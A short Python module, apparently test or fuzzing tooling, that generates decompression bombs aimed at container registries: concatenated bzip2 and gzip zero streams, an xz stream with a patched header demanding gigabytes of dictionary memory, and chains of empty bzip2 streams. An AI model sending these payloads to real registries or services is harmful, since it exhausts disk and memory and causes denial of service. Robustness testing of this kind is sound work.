"""Layers that cost a registry far more than they are: small to send, and large or greedy to unpack."""
import bz2
import functools
import gzip
import lzma
import zlib

MEGA = 1 << 20
_LZMA2 = b"\x21\x01"        # in a block's header: the filter, and that its dictionary is one byte


@functools.cache
def bzip2_zeros(packed_bytes):
    """Streams of 45 MB of zeros each: 275 KB become 256 GiB."""
    one = bz2.compress(bytes(45_000_000))
    return one * (packed_bytes // len(one))


@functools.cache
def gzip_zeros(plain_bytes):
    """As tight as gzip can: 1 MB a GiB."""
    one = gzip.compress(bytes(64 * MEGA), 9, mtime=0)
    return one * (plain_bytes // (64 * MEGA))


@functools.cache
def xz_zeros(plain_bytes, dictionary_bits):
    """xz whose header asks for a dictionary: 28 is 64 MiB (xz -9), 29 is 96 MiB, 40 is 4 GiB."""
    packed = bytearray(lzma.compress(bytes(plain_bytes), preset=0))
    begin, size = 12, packed[12] * 4 + 4        # a block's header follows the stream's
    header = packed[begin:begin + size]
    header[header.index(_LZMA2) + 2] = dictionary_bits
    header[-4:] = zlib.crc32(header[:-4]).to_bytes(4, "little")
    packed[begin:begin + size] = header
    return bytes(packed)


def empty_streams(packed_bytes):
    """bzip2 of nothing, over and over: each stream is a decoder that is made and removed."""
    one = bz2.compress(b"")
    return one * (packed_bytes // len(one))
